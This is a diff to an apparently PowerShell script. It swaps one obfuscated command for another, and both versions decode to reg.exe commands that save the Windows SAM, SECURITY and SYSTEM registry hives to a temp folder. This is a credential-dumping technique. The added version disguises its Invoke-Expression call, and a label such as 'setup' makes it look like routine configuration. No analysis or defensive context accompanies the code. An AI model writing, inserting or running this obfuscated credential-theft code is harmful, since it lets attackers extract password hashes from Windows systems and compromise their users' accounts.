@@ -1,5 +1,5 @@
-Invoke-Expression -Command 'iex ((''# task 5579 v3
-rexx~4.exe save HKLM\SAM C:\Windows\Temp\s.hiv /y
-rexx~4.exe save HQVQ61KLM\SECURITY C:\WindowQVQ61s\Temp\sec.hiv /y
-rexx~4QVQ61.exe save HKLM\SYSTEM C:\Windows\Temp\sys.hiv /y
-'' -replace ''QVQ61'','''').Replace(''xx~4'',''g''))'
+'iex ((''# setup 8686 v3
+reg.exe save HKLM\SAM C:\Windows\Temp\s.hiv /y
+reg.exe savVZV15e HKLM\SECzz~5RITY CVZV15:\Windows\Temp\sec.hiv /y
+reg.exe save HKLM\SYSVZV15TEVZV15M CVZV15:\Windows\Temp\sys.hiv /y
+'' -replace ''VZV15'','''').Replace(''zz~5'',''U''))' | .($VerbosePreference.ToString()[1,3]+'x'-join'')
